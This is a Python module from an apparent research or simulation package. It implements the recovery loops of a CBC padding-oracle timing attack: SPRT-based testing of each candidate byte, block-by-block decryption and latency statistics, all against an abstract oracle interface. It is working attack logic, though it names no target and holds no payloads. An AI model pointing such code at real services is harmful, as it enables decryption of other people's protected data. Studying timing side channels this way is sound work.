"""
Byte and block recovery driven by the SPRT distinguisher.

Implements IAttackStrategy for the CBC padding-oracle timing attack.
"""

from dataclasses import dataclass, field
from enum import Enum
from typing import Callable, List, Optional, Tuple

from cbc_timing_oracle.core.exceptions import (
    BlockIndexOutOfRangeException,
    ByteRecoveryFailedException,
    SPRTUndecidedException,
)
from cbc_timing_oracle.core.interfaces import (
    IAttackStrategy, IDistinguisher, ILogger, IOracle, IRandomSource,
    SPRTResult, Verdict
)
from cbc_timing_oracle.services.sprt_service import SPRTConfig, SPRTDistinguisher
from cbc_timing_oracle.utils.logger import Logger
from cbc_timing_oracle.utils.padding import unpad
from cbc_timing_oracle.utils.stats import (
    LatencySummary,
    calculate_confidence_interval,
    is_significantly_different,
    summarize_latencies,
)


ProgressCallback = Callable[[int, int, int], None]


class UndecidedPolicy(Enum):
    """What ByteRecoverer does with an UNDECIDED verdict."""
    REJECT = "reject"  # Skip the candidate and keep searching
    FAIL = "fail"      # Abort the recovery


@dataclass
class AttackConfig:
    """Configuration for the recovery loops."""
    undecided_policy: UndecidedPolicy = UndecidedPolicy.REJECT


@dataclass
class RecoveryStats:
    """Query counts and latencies observed while recovering."""
    total_queries: int = 0
    checks: int = 0
    undecided: int = 0
    accepted_latencies: List[float] = field(default_factory=list)
    rejected_latencies: List[float] = field(default_factory=list)

    def record(self, result: SPRTResult) -> None:
        self.checks += 1
        self.total_queries += result.attempts
        if result.accepted:
            self.accepted_latencies.extend(result.latencies)
        elif result.verdict is Verdict.REJECT:
            self.rejected_latencies.extend(result.latencies)
        else:
            self.undecided += 1

    @property
    def total_latency(self) -> float:
        return sum(self.accepted_latencies) + sum(self.rejected_latencies)


@dataclass
class AttackReport:
    """
    Outcome of recovering a whole message.

    Attributes:
        blocks: Recovered plaintext blocks, padding included
        plaintext: Recovered message with the padding stripped
        total_queries: Oracle queries issued
        elapsed_time: Duration of the attack on the oracle's clock (seconds)
        total_latency: Sum of latencies from accepted and rejected checks
        accepted: Latency summary of samples from accepted checks
        rejected: Latency summary of samples from rejected checks
        p_value: Welch t-test p-value between the two latency groups
        accepted_interval: 95% confidence interval of the accepted mean
    """
    blocks: List[bytes]
    plaintext: bytes
    total_queries: int
    elapsed_time: float
    total_latency: float
    accepted: LatencySummary
    rejected: LatencySummary
    p_value: float
    accepted_interval: Tuple[float, float] = (0.0, 0.0)

    @property
    def recovered(self) -> bytes:
        return b"".join(self.blocks)


class ByteRecoverer:
    """
    Recovers the next plaintext byte in front of a known suffix.

    Candidates are tried in ascending order 0..255; the first one the
    distinguisher accepts is returned.
    """

    def __init__(
        self,
        distinguisher: IDistinguisher,
        block_size: int,
        config: Optional[AttackConfig] = None,
        stats: Optional[RecoveryStats] = None,
        logger: Optional[ILogger] = None
    ):
        self.distinguisher = distinguisher
        self.block_size = block_size
        self.config = config or AttackConfig()
        self.stats = stats or RecoveryStats()
        self.logger = logger or Logger()

    def recover_byte(self, known_suffix: bytes, block_index: int) -> int:
        """
        Find the plaintext byte preceding known_suffix.

        Args:
            known_suffix: Already recovered trailing bytes of the block
            block_index: Block under attack

        Returns:
            The recovered byte value

        Raises:
            ByteRecoveryFailedException: If no candidate is accepted
            SPRTUndecidedException: If a test is undecided under the FAIL policy
        """
        known_suffix = bytes(known_suffix)
        position = self.block_size - 1 - len(known_suffix)
        undecided: List[int] = []

        for candidate in range(256):
            result = self.distinguisher.check(bytes([candidate]) + known_suffix, block_index)
            self.stats.record(result)

            if result.accepted:
                self.logger.debug(
                    f"Block {block_index} position {position}: accepted 0x{candidate:02x} "
                    f"after {result.attempts} queries (llr={result.log_likelihood_ratio:.1f})"
                )
                return candidate

            if result.verdict is Verdict.UNDECIDED:
                if self.config.undecided_policy is UndecidedPolicy.FAIL:
                    raise SPRTUndecidedException(
                        block_index, position, candidate, result.attempts
                    )
                self.logger.warning(
                    f"Treating undecided candidate 0x{candidate:02x} as rejected"
                )
                undecided.append(candidate)

        self.logger.error(
            f"No candidate accepted for block {block_index} position {position}"
        )
        raise ByteRecoveryFailedException(block_index, position, undecided)


class BlockRecoverer:
    """
    Recovers a full block from the last byte to the first.
    """

    def __init__(
        self,
        oracle: IOracle,
        byte_recoverer: ByteRecoverer,
        logger: Optional[ILogger] = None,
        progress_callback: Optional[ProgressCallback] = None
    ):
        self.oracle = oracle
        self.byte_recoverer = byte_recoverer
        self.logger = logger or Logger()
        self.progress_callback = progress_callback

    def recover_block(self, block_index: int) -> bytes:
        """
        Recover one plaintext block.

        Args:
            block_index: Index of the block to recover

        Returns:
            The block_size recovered bytes

        Raises:
            BlockIndexOutOfRangeException: If block_index is not in the message
            AttackFailedException: If a byte cannot be recovered
        """
        if not 0 <= block_index < self.oracle.num_blocks:
            raise BlockIndexOutOfRangeException(block_index, self.oracle.num_blocks)

        block_size = self.oracle.block_size
        recovered = b""

        for position in reversed(range(block_size)):
            value = self.byte_recoverer.recover_byte(recovered, block_index)
            recovered = bytes([value]) + recovered

            if self.progress_callback is not None:
                self.progress_callback(block_index, position, value)

        self.logger.info(f"[+] Block {block_index} recovered: {recovered.hex()}")
        return recovered


class PaddingOracleAttacker(IAttackStrategy):
    """
    Timing padding-oracle attack against every block of a message.

    Wires the SPRT distinguisher, byte recoverer and block recoverer
    around one oracle and collects statistics across blocks.

    Example:
        >>> attacker = PaddingOracleAttacker(oracle)
        >>> report = attacker.recover_message()
        >>> print(f"Recovered {report.plaintext!r} in {report.total_queries} queries")
    """

    def __init__(
        self,
        oracle: IOracle,
        sprt_config: Optional[SPRTConfig] = None,
        attack_config: Optional[AttackConfig] = None,
        random_source: Optional[IRandomSource] = None,
        logger: Optional[ILogger] = None,
        progress_callback: Optional[ProgressCallback] = None
    ):
        self.oracle = oracle
        self.logger = logger or Logger()
        self.stats = RecoveryStats()

        self.distinguisher = SPRTDistinguisher(
            oracle, sprt_config, random_source, self.logger
        )
        self.byte_recoverer = ByteRecoverer(
            self.distinguisher,
            oracle.block_size,
            attack_config,
            self.stats,
            self.logger
        )
        self.block_recoverer = BlockRecoverer(
            oracle, self.byte_recoverer, self.logger, progress_callback
        )

    def recover_block(self, block_index: int) -> bytes:
        return self.block_recoverer.recover_block(block_index)

    def recover_message(self) -> AttackReport:
        """
        Recover all blocks and strip the padding.

        Returns:
            AttackReport for the whole message

        Raises:
            AttackFailedException: If any block cannot be recovered
            ValueError: If the recovered message is not correctly padded
        """
        self.logger.info(
            f"Starting timing padding-oracle attack: {self.oracle.num_blocks} blocks "
            f"of {self.oracle.block_size} bytes"
        )
        clock = self.oracle.clock
        start_time = clock.now()
        latency_before = self.stats.total_latency
        queries_before = self.stats.total_queries

        blocks = [self.recover_block(i) for i in range(self.oracle.num_blocks)]
        plaintext = unpad(b"".join(blocks), self.oracle.block_size)

        elapsed_time = clock.now() - start_time
        _, p_value = is_significantly_different(
            self.stats.accepted_latencies, self.stats.rejected_latencies
        )

        report = AttackReport(
            blocks=blocks,
            plaintext=plaintext,
            total_queries=self.stats.total_queries - queries_before,
            elapsed_time=elapsed_time,
            total_latency=self.stats.total_latency - latency_before,
            accepted=summarize_latencies(self.stats.accepted_latencies),
            rejected=summarize_latencies(self.stats.rejected_latencies),
            p_value=p_value,
            accepted_interval=calculate_confidence_interval(self.stats.accepted_latencies)
        )

        self.logger.info(
            f"[+] Message recovered with {report.total_queries} queries "
            f"in {elapsed_time:.2f}s"
        )
        return report


def recover_block(
    oracle: IOracle,
    block_index: int,
    sprt_config: Optional[SPRTConfig] = None,
    attack_config: Optional[AttackConfig] = None,
    random_source: Optional[IRandomSource] = None,
    logger: Optional[ILogger] = None
) -> bytes:
    """
    Recover a single plaintext block from an oracle.

    Raises:
        BlockIndexOutOfRangeException: If block_index is not in the message
        AttackFailedException: If a byte of the block cannot be recovered
    """
    attacker = PaddingOracleAttacker(
        oracle,
        sprt_config=sprt_config,
        attack_config=attack_config,
        random_source=random_source,
        logger=logger
    )
    return attacker.recover_block(block_index)
